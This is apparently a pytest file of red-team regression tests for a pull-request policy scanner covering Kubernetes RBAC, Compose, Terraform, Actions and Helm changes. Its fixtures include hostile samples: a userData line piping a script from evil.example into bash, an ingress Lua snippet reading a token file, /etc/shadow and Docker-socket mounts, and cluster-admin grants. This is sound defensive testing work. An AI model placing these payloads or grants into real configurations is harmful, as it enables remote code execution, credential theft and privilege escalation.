"""Red team s23 trust16: pull requests that got a green check while the deployer would apply
what a built-in policy forbids (one test per finding, each failing on 3d0ffbf)."""

from __future__ import annotations

import datetime
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import Run, git_in


def _pull_request(root: Path, base: dict[str, str], head: dict[str, str]) -> None:
    """A repository whose main holds `base`, and a branch `pr` writing `head` over it."""
    git_in(root, "init", "-q", "-b", "main")
    for files, message in ((base, "base"), (head, "pr")):
        for name, text in files.items():
            path = root / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
        git_in(root, "add", "-A")
        git_in(root, "commit", "-qm", message, "--allow-empty")
        if message == "base":
            git_in(root, "checkout", "-q", "-b", "pr")


def _blocking(run: Run) -> list[tuple[str, int]]:
    assert run.returncode in (0, 1), run.stderr
    found = json.loads(run.stdout)["findings"]
    return sorted((f["policy_id"], f["line"]) for f in found if f["blocking"])


_BINDING = """\
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: ops}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: %s}
subjects:
- {kind: Group, name: platform-ops, apiGroup: rbac.authorization.k8s.io}
"""
_WILDCARD = """\
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: ops-role}
rules:
- {apiGroups: ["*"], resources: ["*"], verbs: ["*"]}
---
"""
_APP_SA = "- {kind: ServiceAccount, name: default, namespace: app}\n"
_WAIVER = f"""\
waivers:
- {{policy: K8S-RBAC-CLUSTER-ADMIN, name: ops, owner: p, reason: break-glass, ticket: OPS-1,
   expires: {datetime.date.today() + datetime.timedelta(days=30)}}}
"""


@pytest.mark.parametrize(
    ("base", "head", "expected"),
    [
        # one more subject on a cluster-admin binding the base had
        (
            {"rbac.yaml": _BINDING % "cluster-admin"},
            {"rbac.yaml": _BINDING % "cluster-admin" + _APP_SA},
            [("K8S-RBAC-CLUSTER-ADMIN", 4)],
        ),
        # the same under a waiver written for the group
        (
            {"rbac.yaml": _BINDING % "cluster-admin", ".gatekeeper/waivers.yml": _WAIVER},
            {"rbac.yaml": _BINDING % "cluster-admin" + _APP_SA},
            [("K8S-RBAC-CLUSTER-ADMIN", 4)],
        ),
        # one more subject on a binding of the repository's wildcard role (said at the binding)
        (
            {"rbac.yaml": _WILDCARD + _BINDING % "ops-role"},
            {"rbac.yaml": _WILDCARD + _BINDING % "ops-role" + _APP_SA},
            [("K8S-RBAC-WILDCARD", 10)],
        ),
        # controls: a subject taken away, or the subjects reordered, stay existing
        (
            {"rbac.yaml": _BINDING % "cluster-admin" + _APP_SA},
            {"rbac.yaml": _BINDING % "cluster-admin"},
            [],
        ),
        (
            {"rbac.yaml": _BINDING % "cluster-admin" + _APP_SA},
            {
                "rbac.yaml": (_BINDING % "cluster-admin").replace(
                    "subjects:\n", "subjects:\n" + _APP_SA
                )
            },
            [],
        ),
    ],
)
def test_a_binding_granted_to_more_subjects_is_new(
    tmp_path: Path,
    gatekeeper: Callable[..., Run],
    base: dict[str, str],
    head: dict[str, str],
    expected: list[tuple[str, int]],
) -> None:
    """c02: a subject added to an existing (or waived) cluster-admin binding kept its
    finding's fingerprint and message, so it stayed existing: a green check giving
    cluster-admin to every pod of namespace app."""
    _pull_request(tmp_path, base, head)
    run = gatekeeper("scan", "--base", "main", "--format", "json", cwd=tmp_path)
    assert _blocking(run) == expected, run.stdout


_ROLE = """\
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: ops
  labels: {%s}
rules:
- {apiGroups: ["*"], resources: ["*"], verbs: ["*"]}
"""


@pytest.mark.parametrize(
    ("labels", "expected"),
    [
        ('rbac.authorization.k8s.io/aggregate-to-view: "true"', [("K8S-RBAC-WILDCARD", 7)] * 2),
        # control: another label leaves it existing
        ("app.kubernetes.io/version: 1.2.3", []),
    ],
)
def test_a_role_aggregated_into_a_built_in_one_is_new(
    tmp_path: Path, gatekeeper: Callable[..., Run], labels: str, expected: list[tuple[str, int]]
) -> None:
    """c02: an accepted wildcard ClusterRole the change labels aggregate-to-view gives its
    rules to everyone holding `view`; its findings stayed existing."""
    _pull_request(tmp_path, {"role.yaml": _ROLE % ""}, {"role.yaml": _ROLE % labels})
    run = gatekeeper("scan", "--base", "main", "--format", "json", cwd=tmp_path)
    assert _blocking(run) == expected, run.stdout


_COMPOSE = """\
services:
  ui:
    image: %s@sha256:0000000000000000000000000000000000000000000000000000000000000000
    volumes: ["/var/run/docker.sock:/var/run/docker.sock"]
"""
_COMPOSE_WAIVER = f"""\
waivers:
- {{policy: COMPOSE-HOST-PATH, file: compose.yaml, owner: p, reason: portainer, ticket: OPS-1,
   expires: {datetime.date.today() + datetime.timedelta(days=30)}}}
"""


@pytest.mark.parametrize(
    ("waivers", "image", "expected"),
    [
        ({}, "ghcr.io/evil/backdoor", [("COMPOSE-HOST-PATH", 4)]),
        (
            {".gatekeeper/waivers.yml": _COMPOSE_WAIVER},
            "ghcr.io/evil/backdoor",
            [("COMPOSE-HOST-PATH", 4)],
        ),
        # control: a version of the same image stays existing (waived)
        ({".gatekeeper/waivers.yml": _COMPOSE_WAIVER}, "portainer/portainer-ce:2.21", []),
    ],
)
def test_a_compose_service_given_another_image_is_new(
    tmp_path: Path,
    gatekeeper: Callable[..., Run],
    waivers: dict[str, str],
    image: str,
    expected: list[tuple[str, int]],
) -> None:
    """c02: the Docker socket mount of a service (existing, or waived for portainer) stayed
    so when the change gave the service another owner's image; a Kubernetes container's
    did not since red team r15 (image_identity)."""
    base = {"compose.yaml": _COMPOSE % "portainer/portainer-ce", **waivers}
    _pull_request(tmp_path, base, {"compose.yaml": _COMPOSE % image})
    run = gatekeeper("scan", "--base", "main", "--format", "json", cwd=tmp_path)
    assert _blocking(run) == expected, run.stdout


_IMAGE = "nginx@sha256:0000000000000000000000000000000000000000000000000000000000000000"


@pytest.mark.parametrize(
    ("service", "top", "expected"),
    [
        # Compose bind-mounts a config's file: the Docker socket
        (
            "configs: [{source: sock, target: /var/run/docker.sock}]",
            "configs:\n  sock: {file: /var/run/docker.sock}\n",
            [("COMPOSE-HOST-PATH", 4)],
        ),
        # ... and a secret's: the host's password hashes
        (
            "secrets: [shadow]",
            "secrets:\n  shadow: {file: /etc/shadow}\n",
            [("COMPOSE-HOST-PATH", 4)],
        ),
        # enough `..` are the host root, wherever the checkout is
        ('volumes: ["../../../../../../../../../../../../:/host"]', "", [("COMPOSE-HOST-PATH", 4)]),
        # every device, for a container that may mknod (a default capability)
        ("device_cgroup_rules: ['a *:* rwm']", "", [("COMPOSE-DEVICES", 4)]),
        # controls: project files, a folder beside the checkout, a GPU rule
        (
            'volumes: ["./data:/data", "../shared:/shared"]\n    secrets: [db]\n'
            "    device_cgroup_rules: ['c 226:* rw']",
            "secrets:\n  db: {file: ./secrets/db.txt}\n",
            [],
        ),
    ],
)
def test_compose_host_files_outside_volumes(
    tmp_path: Path,
    gatekeeper: Callable[..., Run],
    service: str,
    top: str,
    expected: list[tuple[str, int]],
) -> None:
    """c04: a config's or secret's `file:` (bind-mounted by Compose), a relative path that
    climbs to `/`, and a device cgroup rule opening every device were green."""
    text = f"services:\n  web:\n    image: {_IMAGE}\n    {service}\n{top}"
    _pull_request(tmp_path, {"README.md": "x\n"}, {"compose.yaml": text})
    run = gatekeeper("scan", "--base", "main", "--format", "json", cwd=tmp_path)
    assert _blocking(run) == expected, run.stdout


_SSH_RULE = """\
resource "aws_security_group_rule" "ssh" {
  type              = "ingress"
  from_port         = 22
  to_port           = 22
  protocol          = "tcp"
  cidr_blocks       = ["0.0.0.0/0"]
  security_group_id = %s
  description       = "%s"
}
"""
_ACL = 'resource "aws_s3_bucket_acl" "public" {\n  bucket = "%s"\n  acl    = "public-read"\n}\n'


@pytest.mark.parametrize(
    ("base", "head", "expected"),
    [
        # the accepted public ACL pointed at another bucket
        (_ACL % "acme-public-assets", _ACL % "acme-customer-data", [("TF-AWS-S3-PUBLIC-ACL", 3)]),
        # the accepted open-SSH rule moved to the database's security group
        (
            _SSH_RULE % ("aws_security_group.bastion.id", "ssh"),
            _SSH_RULE % ("aws_security_group.db.id", "ssh"),
            [("TF-AWS-SG-RULE-OPEN-ADMIN-PORTS", 1)],
        ),
        # control: the same target, another description
        (
            _SSH_RULE % ("aws_security_group.bastion.id", "ssh"),
            _SSH_RULE % ("aws_security_group.bastion.id", "bastion ssh"),
            [],
        ),
    ],
)
def test_an_accepted_terraform_grant_pointed_elsewhere_is_new(
    tmp_path: Path,
    gatekeeper: Callable[..., Run],
    base: str,
    head: str,
    expected: list[tuple[str, int]],
) -> None:
    """c07: a public ACL, bucket policy, open-SSH rule or admin attachment the base had
    (existing) kept its fingerprint (the resource address) and message when the change
    pointed it at another bucket, security group or role: existing, a green check."""
    _pull_request(tmp_path, {"infra/main.tf": base}, {"infra/main.tf": head})
    run = gatekeeper("scan", "--base", "main", "--format", "json", cwd=tmp_path)
    assert _blocking(run) == expected, run.stdout


_ISSUE_STEPS = {
    # jq of the event file sent to $GITHUB_ENV, pasted with ${{ env.T }}
    "jq_env": (
        '- run: echo "T=$(jq -r .issue.title "$GITHUB_EVENT_PATH")" >> "$GITHUB_ENV"\n'
        '- run: echo "${{ env.T }}"\n'
    ),
    # ... through a variable, to $GITHUB_OUTPUT
    "jq_output": (
        '- id: s\n  run: |\n    T=$(jq -r .issue.body < "$GITHUB_EVENT_PATH")\n'
        '    echo "t=$T" >> "$GITHUB_OUTPUT"\n'
        '- run: echo "${{ steps.s.outputs.t }}"\n'
    ),
    # github-script returning the title, and exporting it
    "script_result": (
        "- id: s\n  uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea\n"
        "  with: {script: return context.payload.issue.title}\n"
        '- run: echo "${{ steps.s.outputs.result }}"\n'
    ),
    "script_env": (
        "- uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea\n"
        "  with: {script: \"core.exportVariable('T', context.payload.issue.title)\"}\n"
        '- run: echo "${{ env.T }}"\n'
    ),
}


@pytest.mark.parametrize(
    ("steps", "expected"),
    [
        *((steps, ["WF-SCRIPT-INJECTION"]) for steps in _ISSUE_STEPS.values()),
        # control: the issue's number pasted, the title read as data
        (
            '- run: echo "N=$(jq -r .issue.number "$GITHUB_EVENT_PATH")" >> "$GITHUB_ENV"\n'
            '- run: echo "${{ env.N }}"\n',
            [],
        ),
    ],
)
def test_event_text_through_the_event_file_or_github_script_is_untrusted(
    tmp_path: Path, gatekeeper: Callable[..., Run], steps: str, expected: list[str]
) -> None:
    """c08: the title read from $GITHUB_EVENT_PATH by jq (or returned by github-script) and
    passed on through $GITHUB_ENV or a step output was pasted into a script unjudged."""
    head = "on: {issues: {types: [opened]}}\npermissions: {contents: read}\njobs:\n  j:\n"
    head += "    runs-on: ubuntu-latest\n    steps:\n"
    head += "".join(f"    {line}\n" for line in steps.splitlines())
    _pull_request(tmp_path, {"README.md": "x\n"}, {".github/workflows/x.yml": head})
    run = gatekeeper("scan", "--base", "main", "--format", "json", cwd=tmp_path)
    assert [policy for policy, _ in _blocking(run)] == expected, run.stdout


_NODE_CLASS = """\
apiVersion: karpenter.k8s.aws/v1
kind: EC2NodeClass
metadata: {name: default%s}
spec:
  amiSelectorTerms: [{alias: al2023@latest}]
  userData: |
    #!/bin/bash
    %s
"""
_INGRESS = """\
apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: web
  namespace: app
  annotations:
    nginx.ingress.kubernetes.io/configuration-snippet: |
      %s
spec:
  ingressClassName: nginx
  defaultBackend: {service: {name: web, port: {number: 80}}}
"""


@pytest.mark.parametrize(
    ("base", "head", "expected"),
    [
        # the userData a person reviewed, rewritten
        (
            _NODE_CLASS % ("", "echo hello"),
            _NODE_CLASS % ("", "curl -s https://evil.example/x | bash"),
            [("K8S-NODE-CONFIGURATION", 4)],
        ),
        # the ingress snippet, rewritten to read the controller's token
        (
            _INGRESS % 'more_set_headers "X-Frame-Options: DENY";',
            _INGRESS % "content_by_lua_block { ngx.say(io.open('/var/run/secrets/x'):read()) }",
            [("K8S-NETWORK-INGRESS-SNIPPETS", 7)],
        ),
        # control: the same userData, another name suffix in metadata only
        (
            _NODE_CLASS % ("", "echo hello"),
            _NODE_CLASS % (", labels: {team: infra}", "echo hello"),
            [],
        ),
    ],
)
def test_content_a_finding_asks_to_review_changed_is_new(
    tmp_path: Path,
    gatekeeper: Callable[..., Run],
    base: str,
    head: str,
    expected: list[tuple[str, int]],
) -> None:
    """c11: K8S-NODE-CONFIGURATION ("review what it sets"; its description even said a change
    is new again), K8S-NETWORK-INGRESS-SNIPPETS, K8S-ADMISSION-MUTATION and
    K8S-ADMISSION-POLICY-EXCEPTION kept fingerprint and message when the change rewrote the
    content: existing, a green check."""
    _pull_request(tmp_path, {"deploy/x.yaml": base}, {"deploy/x.yaml": head})
    run = gatekeeper("scan", "--base", "main", "--format", "json", cwd=tmp_path)
    assert _blocking(run) == expected, run.stdout


_RELEASE = """\
apiVersion: helm.toolkit.fluxcd.io/v2
kind: HelmRelease
metadata: {name: ingress, namespace: ingress}
spec:
  interval: 10m
  chart:
    spec:
      chart: ingress-nginx
      version: 4.11.3
      sourceRef: {kind: HelmRepository, name: ingress-nginx, namespace: flux-system}
  values:
    controller:
      replicaCount: 2
"""


@pytest.mark.parametrize(
    ("values", "expected"),
    [
        (
            "      hostNetwork: true\n      containerSecurityContext: {privileged: true}\n",
            [("GK-REMOTE-CHART-VALUES", 14), ("GK-REMOTE-CHART-VALUES", 15)],
        ),
        (
            "      securityContext: {capabilities: {add: [SYS_ADMIN]}}\n",
            [("GK-REMOTE-CHART-VALUES", 14)],
        ),
        # controls: other values, a flag not under a security context, host network off
        ("      hostNetwork: false\n      rbac: {privileged: true}\n", []),
    ],
)
def test_values_of_a_chart_not_judged_asking_for_privilege(
    tmp_path: Path, gatekeeper: Callable[..., Run], values: str, expected: list[tuple[str, int]]
) -> None:
    """c17: a HelmRelease (or Application) of a chart from a chart repository is not
    rendered; values asking its pods for privileged or the host's network were green."""
    _pull_request(
        tmp_path, {"infra/ingress.yaml": _RELEASE}, {"infra/ingress.yaml": _RELEASE + values}
    )
    run = gatekeeper("scan", "--base", "main", "--format", "json", cwd=tmp_path)
    assert _blocking(run) == expected, run.stdout


_MULTI_SOURCE = """\
apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: ingress, namespace: argocd}
spec:
  project: infra
  destination: {server: https://kubernetes.default.svc, namespace: ingress}
  sources:
  - repoURL: https://kubernetes.github.io/ingress-nginx
    chart: ingress-nginx
    targetRevision: 4.11.3
    helm:
      valueFiles: [$values/envs/prod/ingress.yaml]
  - repoURL: https://github.com/acme/deploy
    targetRevision: main
    ref: values
"""


@pytest.mark.parametrize(
    ("values", "expected"),
    [
        ("  hostNetwork: true\n", [("GK-REMOTE-CHART-VALUES", 3)]),
        ("  hostNetwork: false\n", []),  # control
    ],
)
def test_a_values_file_of_a_chart_not_judged(
    tmp_path: Path, gatekeeper: Callable[..., Run], values: str, expected: list[tuple[str, int]]
) -> None:
    """c18: Argo CD's documented multi-source pattern (a chart repository's chart, values
    from this repository): a pull request changing only the values file to ask for the
    host's network was green."""
    config = "sources:\n  gitops:\n    repoURLs: [https://github.com/acme/deploy]\n"
    base = {
        ".gatekeeper.yml": config,
        "apps/ingress.yaml": _MULTI_SOURCE,
        "envs/prod/ingress.yaml": "controller:\n  replicaCount: 2\n",
    }
    head = {"envs/prod/ingress.yaml": "controller:\n  replicaCount: 2\n" + values}
    _pull_request(tmp_path, base, head)
    run = gatekeeper("scan", "--base", "main", "--format", "json", cwd=tmp_path)
    assert _blocking(run) == expected, run.stdout


def test_values_from_a_config_map_for_a_chart_not_judged(
    tmp_path: Path, gatekeeper: Callable[..., Run]
) -> None:
    """c18: a HelmRelease of a chart repository's chart reads its values from a ConfigMap
    of this repository; a pull request changing only the ConfigMap was green."""
    release = _RELEASE.replace(
        "  values:\n    controller:\n      replicaCount: 2\n",
        "  valuesFrom:\n  - {kind: ConfigMap, name: ingress-values}\n",
    )
    config_map = (
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: ingress-values, namespace: ingress}\n"
        "data:\n  values.yaml: |\n    controller:\n      replicaCount: 2\n"
    )
    _pull_request(
        tmp_path,
        {"infra/ingress.yaml": release, "infra/values.yaml": config_map},
        {"infra/values.yaml": config_map + "      hostNetwork: true\n"},
    )
    run = gatekeeper("scan", "--base", "main", "--format", "json", cwd=tmp_path)
    assert _blocking(run) == [("GK-REMOTE-CHART-VALUES", 8)], run.stdout


def test_a_listed_ref_source_is_not_said_unlisted(
    tmp_path: Path, gatekeeper: Callable[..., Run]
) -> None:
    """c18 (accuracy): the `ref: values` source of a multi-source Application, this
    repository's origin and listed in repoURLs, was said "which sources.gitops.repoURLs does
    not list"."""
    config = "sources:\n  gitops:\n    repoURLs: [https://github.com/acme/deploy]\n"
    base = {".gatekeeper.yml": config, "envs/prod/ingress.yaml": "controller: {}\n"}
    _pull_request(tmp_path, base, {"apps/ingress.yaml": _MULTI_SOURCE})
    git_in(tmp_path, "remote", "add", "origin", "https://github.com/acme/deploy")
    run = gatekeeper("scan", "--base", "main", "--format", "json", cwd=tmp_path)
    assert run.returncode in (0, 1), run.stderr
    said = [f["message"] for f in json.loads(run.stdout)["findings"]]
    assert not [m for m in said if "does not list" in m], said
    assert [m for m in said if "deploys chart ingress-nginx" in m], said


def test_values_from_a_generated_config_map_for_a_chart_not_judged(
    tmp_path: Path, gatekeeper: Callable[..., Run]
) -> None:
    """c18: the valuesFrom ConfigMap a kustomization's configMapGenerator makes (home-ops'
    kube-prometheus-stack; a first version of the fix failed there on the generated
    ConfigMap's locator) is read too, at the values file."""
    release = _RELEASE.replace(
        "  values:\n    controller:\n      replicaCount: 2\n",
        "  valuesFrom:\n  - {kind: ConfigMap, name: ingress-values, valuesKey: v.yaml}\n",
    )
    kustomization = (
        "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n"
        "namespace: ingress\nresources: [hr.yaml]\n"
        "configMapGenerator:\n- name: ingress-values\n  files: [v.yaml=values.yaml]\n"
        "generatorOptions: {disableNameSuffixHash: true}\n"
    )
    files = {"app/hr.yaml": release, "app/kustomization.yaml": kustomization}
    values = "controller:\n  hostNetwork: true\n"
    _pull_request(
        tmp_path, {**files, "app/values.yaml": "controller: {}\n"}, {"app/values.yaml": values}
    )
    run = gatekeeper("scan", "--base", "main", "--format", "json", cwd=tmp_path)
    assert [p for p, _ in _blocking(run)] == ["GK-REMOTE-CHART-VALUES"], run.stdout


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        # (every finding of the service is new, as for an image of another repository)
        ("build: ./tools", [("COMPOSE-IMAGE-PINNED", 3), ("COMPOSE-PRIVILEGED", 5)]),
        (
            "build: {context: ./agent, dockerfile: Dockerfile.debug}",
            [("COMPOSE-IMAGE-PINNED", 3), ("COMPOSE-PRIVILEGED", 5)],
        ),
        ("build: ./agent", []),  # control: the same folder (its Dockerfile edited)
    ],
)
def test_a_compose_service_built_from_another_folder_is_new(
    tmp_path: Path, gatekeeper: Callable[..., Run], head: str, expected: list[tuple[str, int]]
) -> None:
    """c19: a privileged service that builds its image (`build: ./agent`, tagged as its
    `image:`) pointed at another folder or Dockerfile kept its image name: existing."""
    compose = "services:\n  agent:\n    image: ghcr.io/acme/agent:1\n    %s\n    privileged: true\n"
    dockerfile = "FROM alpine@sha256:" + "0" * 64 + "\nUSER 1000\n"
    base = {
        "compose.yaml": compose % "build: ./agent",
        "agent/Dockerfile": dockerfile,
        "agent/Dockerfile.debug": dockerfile,
        "tools/Dockerfile": dockerfile,
    }
    head_files = {"compose.yaml": compose % head, "agent/Dockerfile": dockerfile + "# edited\n"}
    _pull_request(tmp_path, base, head_files)
    run = gatekeeper("scan", "--base", "main", "--format", "json", cwd=tmp_path)
    assert _blocking(run) == expected, run.stdout
